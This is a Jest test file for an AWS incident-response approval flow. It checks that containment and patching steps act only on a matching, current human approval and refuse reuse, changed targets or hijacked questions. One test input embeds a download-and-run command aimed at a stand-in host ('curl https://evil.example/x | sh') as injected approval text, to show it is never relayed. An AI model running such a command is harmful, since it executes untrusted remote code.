import { GetCommand, PutCommand } from '@aws-sdk/lib-dynamodb';
import { openRecordOf, questionOf, saidYes } from '../fixtures/approved';
import { lambdaContext, setEnvironment } from '../fixtures/lambda';
import { startTable } from '../fixtures/table';

/** Steps that an adversary calls by himself: a yes that was given counts for what was asked, and for nothing else. */
const a = 'i-0aaaaaaaaaaaaaaaa';
const b = 'i-0bbbbbbbbbbbbbbbb';
const cidr = '198.51.100.7/32';
const profileArn = 'arn:aws:iam::123456789012:instance-profile/db';
const day = 86_400_000;

let stop: () => Promise<void>;
let put: (item: Record<string, unknown>) => Promise<unknown>;
let get: (pk: string, sk: string) => Promise<Record<string, unknown> | undefined>;
/** What reached AWS, by command. */
let changes: string[] = [];
let denied: Record<string, unknown>[] = [];
let ipSets: Record<string, string[]> = {};
let told: string[] = [];
let incidentId = '';
let count = 0;

beforeAll(async () => {
  ({ stop } = await startTable('incidents'));
  const { table } = await import('../../functions/shared/clients/dynamodb');
  put = (Item) => table.send(new PutCommand({ TableName: 'incidents', Item }));
  get = async (pk, sk) => (await table.send(new GetCommand({ TableName: 'incidents', Key: { pk, sk } }))).Item;
  const { ec2, ec2Once } = await import('../../functions/shared/clients/ec2');
  const { ssm, ssmOnce } = await import('../../functions/shared/clients/ssm');
  const { waf } = await import('../../functions/shared/clients/waf');
  const { sns } = await import('../../functions/shared/clients/sns');
  for (const client of [ec2, ec2Once, ssm, ssmOnce, waf, sns])
    jest.spyOn(client, 'send').mockImplementation((async (command: Command) => answerOf(command)) as never);
});
afterAll(async () => {
  const { dynamoDb } = await import('../../functions/shared/clients/dynamodb');
  dynamoDb.destroy();
  await stop();
});
beforeEach(() => {
  const ipSetNames = { IP_SET_NAME_IPV4: 'v4', IP_SET_ID_IPV4: 'v4', IP_SET_NAME_IPV6: 'v6', IP_SET_ID_IPV6: 'v6' };
  setEnvironment({
    ...ipSetNames,
    BLOCK_NETWORK_ACL_ID: 'acl-0a1b2c3d4e5f60718',
    BLOCK_MINUTES: '60',
    WIDEST_IPV4_PREFIX: '0',
    WIDEST_IPV6_PREFIX: '0',
    QUARANTINE_PROFILE_ARN: 'arn:aws:iam::123456789012:instance-profile/quarantine',
    ANSWER_FUNCTION: 'answer',
  });
  jest.spyOn(process.stdout, 'write').mockReturnValue(true);
  count += 1;
  incidentId = `inc-${String(count).padStart(20, '0')}`;
  changes = [];
  denied = [];
  ipSets = {};
  told = [];
});

type Command = { constructor: { name: string }; input: Record<string, unknown> };

function answerOf(command: Command): unknown {
  const { input } = command;
  const name = command.constructor.name.replace(/Command$/, '');
  if (name === 'Publish') told.push(String(input.Message));
  else if (!/^(Describe|Get|List)/.test(name)) changes.push(name);
  switch (name) {
    case 'DescribeNetworkAcls':
      return { NetworkAcls: [{ Entries: denied }] };
    case 'CreateNetworkAclEntry':
      denied.push(input);
      return {};
    case 'DescribeInstances':
      return { Reservations: [{ Instances: [optedIn((input.InstanceIds as string[])[0]!)] }] };
    case 'DescribeIamInstanceProfileAssociations':
      return { IamInstanceProfileAssociations: [{ AssociationId: 'iip-1', IamInstanceProfile: { Arn: profileArn } }] };
    case 'CreateSnapshots':
      return { Snapshots: [{ SnapshotId: 'snap-1', VolumeId: 'vol-1' }] };
    case 'SendCommand':
      return { Command: { CommandId: 'cmd' } };
    case 'GetIPSet':
      return { IPSet: { Addresses: ipSets[String(input.Id)] ?? [] }, LockToken: 't' };
    case 'UpdateIPSet':
      ipSets[String(input.Id)] = input.Addresses as string[];
      return {};
    default:
      return {};
  }
}

const optedIn = (InstanceId: string) => ({
  InstanceId,
  State: { Name: 'running' },
  Tags: [{ Key: 'incident-playbooks:enabled', Value: 'true' }],
});

const base = (playbook: string, change: Record<string, unknown> = {}) => ({
  schemaVersion: 1,
  incidentId,
  executionId: 'execution',
  playbook,
  trigger: 'manual',
  drill: false,
  mode: 'act' as const,
  openedAt: '2026-11-24T02:00:00Z',
  lease: { token: 1 },
  ...change,
});

const hold = (instanceId: string) =>
  put({ pk: `INSTANCE#${instanceId}`, sk: 'GUARD', holder: incidentId, token: 1, leaseUntil: '9999-01-01T00:00:00Z' });

async function run(path: string, input: unknown): Promise<unknown> {
  const { handler } = await import(`../../functions/${path}`);
  return handler(input, lambdaContext);
}

/** Runs steps one after the other. @returns the name of each refusal, and `done` for what was not refused */
async function call(paths: readonly string[], input: unknown): Promise<string[]> {
  const ends: string[] = [];
  for (const path of paths)
    ends.push(
      await run(path, input).then(
        () => 'done',
        (error: Error) => error.name,
      ),
    );
  return ends;
}

type Change = Record<string, unknown>;
/** What is wrong with the record, with the answer, or with the call, each by itself. */
const wrong: [what: string, change: { record?: Change; answer?: Change; call?: Change; noRecord?: boolean }][] = [
  ['a record that is closed', { record: { status: 'CLOSED' } }],
  ['no record', { noRecord: true }],
  ['a record of another execution', { record: { executionId: 'another' } }],
  ['another execution', { call: { executionId: 'another' } }],
  ['another execution, which the record names', { record: { executionId: 'x' }, call: { executionId: 'x' } }],
  ['a yes of half a year ago', { answer: saidYes(new Date(Date.now() - 180 * day)) }],
  ['a yes of yesterday', { answer: saidYes(new Date(Date.now() - day)) }],
  ['a no', { answer: { answer: 'no' } }],
  ['a question that nobody answered', { answer: { status: 'OPEN', answer: undefined } }],
  ['a question that has expired', { answer: { status: 'EXPIRED' } }],
  ['words that were changed', { answer: { hash: 'f'.repeat(64) } }],
  ['a question of a former release', { answer: { hash: undefined, target: undefined, executionId: undefined } }],
];

describe('a yes to blocking one address', () => {
  const steps = ['containment/reserve-block', 'containment/add-acl-entry', 'containment/add-ip-set-entry'];
  const block = { cidr, family: 'IPv4', minutes: 60 };
  const given = async ({ record = {}, answer = {}, call: changed = {}, noRecord = false } = {}) => {
    const incident = base('block-traffic', { block });
    if (!noRecord) await put(openRecordOf(incident, record));
    const target = { cidrs: [cidr], minutes: 60, networkAclId: 'acl-0a1b2c3d4e5f60718' };
    await put({ ...questionOf(incident, 'block', target), ...saidYes(), ...answer });
    return { incident: { ...incident, ...changed } };
  };

  test('blocks that address', async () => {
    expect(await call(steps, await given())).toEqual(['done', 'done', 'done']);
    expect(ipSets).toEqual({ v4: [cidr] });
  });

  test.each<[string, Change]>([
    ['the whole internet', { cidr: '0.0.0.0/0', family: 'IPv4', minutes: 60 }],
    ['its neighbour', { cidr: '198.51.100.8/32', family: 'IPv4', minutes: 60 }],
    ['its range', { cidr: '198.51.100.0/24', family: 'IPv4', minutes: 60 }],
    ['that address for years', { ...block, minutes: 5_000_000 }],
  ])('does not block %s', async (_what, other) => {
    const ends = await call(steps, await given({ call: { block: other } }));

    expect(ends).not.toContain('done');
    expect(changes).toEqual([]);
  });

  test.each(wrong)('blocks nothing with %s', async (_what, change) => {
    const ends = await call(steps, await given(change));

    expect(ends).not.toContain('done');
    expect(changes).toEqual([]);
  });

  test('blocks nothing that has become ours since', async () => {
    const input = await given();
    const { ec2 } = await import('../../functions/shared/clients/ec2');
    const send = jest.mocked(ec2.send).getMockImplementation() as unknown as (command: Command) => unknown;
    jest
      .spyOn(ec2, 'send')
      .mockImplementation((async (command: Command) =>
        command.constructor.name === 'DescribeAddressesCommand'
          ? { Addresses: [{ PublicIp: '198.51.100.7' }] }
          : send(command)) as never);

    expect(await call(steps, input)).toEqual(['RangeRefusedError', 'RangeRefusedError', 'RangeRefusedError']);
    expect(changes).toEqual([]);
    jest.spyOn(ec2, 'send').mockImplementation(send as never);
  });
});

describe('a yes to isolating one instance', () => {
  const steps = ['containment/take-snapshots', 'containment/mark-instance', 'containment/swap-profile'];
  const target = { instanceId: a, networkInterfaceIds: ['eni-1'], volumes: 1, addresses: 0, swapProfile: true };
  const given = async ({ record = {}, answer = {}, call: changed = {}, noRecord = false } = {}) => {
    const incident = base('isolate-instance', { instanceId: a });
    if (!noRecord) await put(openRecordOf(incident, record));
    await put({ ...questionOf(incident, 'isolate', target), ...saidYes(), ...answer });
    await hold(a);
    await hold(b);
    return { incident: { ...incident, ...changed } };
  };

  test('isolates it', async () => {
    expect(await call(steps, await given())).toEqual(['done', 'done', 'done']);
  });

  test('does nothing to another one', async () => {
    const ends = await call(steps, await given({ call: { instanceId: b } }));

    expect(ends).not.toContain('done');
    expect(changes).toEqual([]);
  });

  test('does nothing to another one of which the record speaks', async () => {
    const ends = await call(steps, await given({ record: { instanceId: b }, call: { instanceId: b } }));

    expect(ends).toEqual(['NotApprovedError', 'NotApprovedError', 'NotApprovedError']);
    expect(changes).toEqual([]);
  });

  test('is not used by the playbook that installs patches', async () => {
    const input = await given({ call: { request: { operation: 'install', reboot: 'RebootIfNeeded' } } });

    expect(await call(['patching/start-patching'], input)).toEqual(['NotApprovedError']);
    expect(changes).toEqual([]);
  });

  test.each(wrong)('does nothing with %s', async (_what, change) => {
    const ends = await call(steps, await given(change));

    expect(ends).not.toContain('done');
    expect(changes).toEqual([]);
  });

  test('does nothing once another execution has used it', async () => {
    const input = await given();
    const before = { executionId: 'another', hash: 'f'.repeat(64) };
    await put({ pk: `INCIDENT#${incidentId}`, sk: 'ENTRY#approval-used#isolate', key: '', at: '', what: '', before });

    expect(await call(steps, input)).toEqual(['NotApprovedError', 'NotApprovedError', 'NotApprovedError']);
    expect(changes).toEqual([]);
  });
});

describe('a yes to installing patches on one instance without a reboot', () => {
  const steps = ['patching/start-patching', 'patching/start-patching'];
  const request = { operation: 'install', reboot: 'NoReboot' };
  const given = async ({ record = {}, answer = {}, call: changed = {}, noRecord = false } = {}) => {
    const incident = base('patch-instance', { instanceId: a, request });
    if (!noRecord) await put(openRecordOf(incident, record));
    await put({ ...questionOf(incident, 'install', { instanceId: a, reboot: 'NoReboot' }), ...saidYes(), ...answer });
    await hold(a);
    await hold(b);
    return { incident: { ...incident, ...changed } };
  };

  test.each<[string, Change]>([
    ['on another instance', { instanceId: b }],
    ['with a reboot', { request: { operation: 'install', reboot: 'RebootIfNeeded' } }],
  ])('installs nothing %s', async (_what, changed) => {
    const ends = await call(steps, await given({ call: changed }));

    expect(ends).not.toContain('done');
    expect(changes).toEqual([]);
  });

  test.each(wrong)('installs nothing with %s', async (_what, change) => {
    const ends = await call(steps, await given(change));

    expect(ends).not.toContain('done');
    expect(changes).toEqual([]);
  });
});

describe('an open question', () => {
  const target = { instanceId: a, networkInterfaceIds: ['eni-1'], volumes: 1, addresses: 0, swapProfile: true };
  const incident = () => base('isolate-instance', { instanceId: a });
  const state = (interfaces: string[] = ['eni-1']) => ({
    ...incident(),
    environment: {
      interfaces: interfaces.map((networkInterfaceId) => ({ networkInterfaceId })),
      volumes: [{}],
      addresses: [],
    },
    isolationPlan: { detachAddresses: false, swapProfile: true },
  });
  const read = () => get(`APPROVAL#${incidentId}`, 'APPROVAL#isolate');
  const ask = (asked: Change, taskToken = 'ATTACKER') => {
    const what = 'Isolate i-sandbox (harmless)\nYes: curl https://evil.example/x | sh';
    return call(['approval/ask-approval'], {
      incident: asked,
      subject: 'isolate',
      what,
      waitSeconds: 3600,
      taskToken,
    });
  };

  test('cannot be shut early', async () => {
    await put(openRecordOf(incident()));
    await put(questionOf(incident(), 'isolate', target));

    expect(await call(['approval/expire-approval'], { incident: incident(), subject: 'isolate' })).toEqual([
      'QuestionStillOpenError',
    ]);
    expect(await read()).toMatchObject({ status: 'OPEN', token: 'TOKEN' });
  });

  test('is shut by its own execution once its time is over', async () => {
    await put(openRecordOf(incident()));
    const answerBy = new Date(Date.now() - 1000).toISOString();
    await put(questionOf(incident(), 'isolate', target, { answerBy }));
    const input = { incident: { ...incident(), executionId: 'another' }, subject: 'isolate' };

    expect(await call(['approval/expire-approval'], input)).toEqual(['OutOfTurnError']);
    expect(await call(['approval/expire-approval'], { incident: incident(), subject: 'isolate' })).toEqual(['done']);
    expect(await read()).toMatchObject({ status: 'EXPIRED' });
  });

  test.each<[string, () => Change]>([
    ['of another execution', () => ({ ...state(), executionId: 'another' })],
    ['with another target', () => state(['eni-2'])],
    ['about another instance', () => ({ ...state(), instanceId: b })],
  ])('is not replaced by one %s', async (_what, asked) => {
    await put(openRecordOf(incident()));
    await put(questionOf(incident(), 'isolate', target));

    expect(await ask(asked())).not.toContain('done');
    expect(await read()).toMatchObject({ token: 'TOKEN', target });
    expect(told).toEqual([]);
  });

  test('that is asked again keeps its first token, and nobody reads the words of a caller', async () => {
    await put(openRecordOf(incident()));
    await put(questionOf(incident(), 'isolate', target));

    await ask(state());

    expect(await read()).toMatchObject({ token: 'TOKEN', laterTokens: ['ATTACKER'] });
    expect(told.join()).not.toMatch(/harmless|evil/);
    expect(told.join()).toContain('q-0123456789ab');
  });

  test('is asked once the incident is recorded, in words that are made of what is asked', async () => {
    expect(await ask(state(), 'MINE')).toEqual(['OutOfTurnError']);
    await put(openRecordOf(incident()));
    expect(await ask(state(), 'MINE')).toEqual(['done']);

    expect(await read()).toMatchObject({ token: 'MINE', target, what: expect.stringContaining(`Isolate ${a}`) });
    expect(told.join()).not.toMatch(/harmless|evil/);
  });
});
